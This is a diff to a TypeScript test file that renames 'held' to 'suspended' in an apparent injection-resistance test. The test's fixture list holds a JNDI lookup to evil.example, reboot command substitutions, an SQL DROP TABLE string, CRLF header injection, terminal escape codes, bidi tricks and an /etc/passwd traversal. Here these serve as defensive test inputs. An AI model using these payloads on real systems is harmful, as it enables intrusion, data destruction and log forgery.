@@ -86,12 +86,12 @@ const ORDERS: readonly string[] = [
   '$'.concat('{jndi:ldap://evil.example/a}'),
   '$(reboot)`reboot`;reboot',
   "'; DROP TABLE run; --",
-  '"}\n{"event":"held","status":401}',
+  '"}\n{"event":"suspended","status":401}',
   'x\r\nX-Evil: 1\r\n\r\n<html>',
   '\u001b[2J\u001b]0;owned\u0007',
   '\u009b31m\u009d0;owned\u009c',
   '\u202eevil\u202c\u2066',
-  'a\u2028{"event":"held"}\u2029',
+  'a\u2028{"event":"suspended"}\u2029',
   '\u0000\u0001\u0008\u007f',
   '../../etc/passwd',
   '%00%0d%0a',
@@ -123,7 +123,7 @@ describe('a command inside a record', () => {
     const logged = guard.logged();
     expect(logged).toContain('relay_pass');
     for (const order of ORDERS) expect(logged).not.toContain(JSON.stringify(order).slice(1, -1));
-    expect(logged).not.toMatch(/held|evil|calc|owned/);
+    expect(logged).not.toMatch(/suspended|evil|calc|owned/);
   });
 
   test('is one line in the dead letters, without anything that a terminal obeys', async () => {
